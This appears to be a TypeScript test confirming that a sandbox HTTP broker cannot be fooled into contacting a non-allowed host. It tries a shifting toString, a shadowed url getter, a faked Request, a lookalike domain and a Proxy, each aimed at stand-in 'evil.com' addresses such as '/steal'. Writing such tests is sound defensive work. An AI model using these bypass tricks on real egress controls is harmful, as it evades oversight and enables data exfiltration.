// Request objects cannot smuggle another host past the broker: the URL is
// parsed once when the Request is made; shadowing its getters, faking a
// Request or lying in toString changes nothing the broker sees.
export default async () => {
  const out: string[] = [];
  const attempt = async (f: () => Promise<unknown>) => {
    try { await f(); out.push("sent"); } catch (e: any) { out.push(e.name + ": " + String(e.message).slice(0, 40)); }
  };
  let n = 0;
  const shifty = { toString: () => (n++ === 0 ? "https://api.example.com/v1/items" : "https://evil.com/steal") };
  const req = new Request(shifty as any);
  Object.defineProperty(req, "url", { get: () => "https://evil.com/shadowed" });
  await attempt(() => http.fetch(req));
  await attempt(() => http.fetch(Object.create(Request.prototype)));
  await attempt(() => http.fetch(new Request("https://api.example.com.evil.com/x")));
  await attempt(() => http.fetch(new Proxy(new Request("https://evil.com/p"), {})));
  return { out, conversions: n };
};
